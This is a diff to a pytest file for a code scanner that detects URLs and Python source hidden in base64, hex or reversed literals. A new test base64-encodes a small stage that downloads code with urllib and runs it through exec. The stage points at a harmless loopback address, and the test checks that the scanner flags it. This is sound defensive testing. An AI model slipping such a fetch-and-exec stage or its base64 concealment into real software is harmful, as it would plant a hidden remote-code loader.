@@ -1,10 +1,14 @@
-"""``encoded``: a literal that is a URL in base64, hex or backwards, found in the text."""
+"""``encoded``: a literal that is a URL in base64, hex or backwards, or Python source
+in base64, found in the text."""
 
 from __future__ import annotations
+
+import base64
 
 import pytest
 
 from guard.analysis.scan.hits import Hit
+from guard.analysis.scan.python import analyse
 from guard.analysis.scan.python.text import text_hits
 
 
@@ -45,3 +49,24 @@ def test_finds_the_address_an_encoded_literal_holds(literal: str, address: str) 
 )
 def test_passes_literals_that_hide_no_address(source: str) -> None:
     assert _hidden(source) == []
+
+
+# a download run by exec, in base64 (the address is loopback's discard port)
+STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://127.0.0.1:9/x").read())\n'
+CODE = base64.b64encode(STAGE.encode()).decode()
+
+
+@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
+def test_code_in_a_base64_literal_is_analysed_at_its_line(newline: str) -> None:
+    """The decoded code (a download run by exec) counts at the literal's line,
+    lines counted as Python counts them."""
+    source = newline.join(["import base64", "", f"STAGE = {CODE!r}", ""])
+    hits = [h for h in analyse(source).hits if h.kind == "download-exec"]
+    assert hits
+    assert {h.line for h in hits} == {3}
+    assert all("(code in a base64 literal)" in h.text for h in hits)
+
+
+def test_base64_that_is_no_code_is_not_analysed() -> None:
+    broken = CODE[:40] + "!!" + CODE[42:]  # (not base64: nothing decoded)
+    assert analyse(f"STAGE = {broken!r}\n").hits == ()
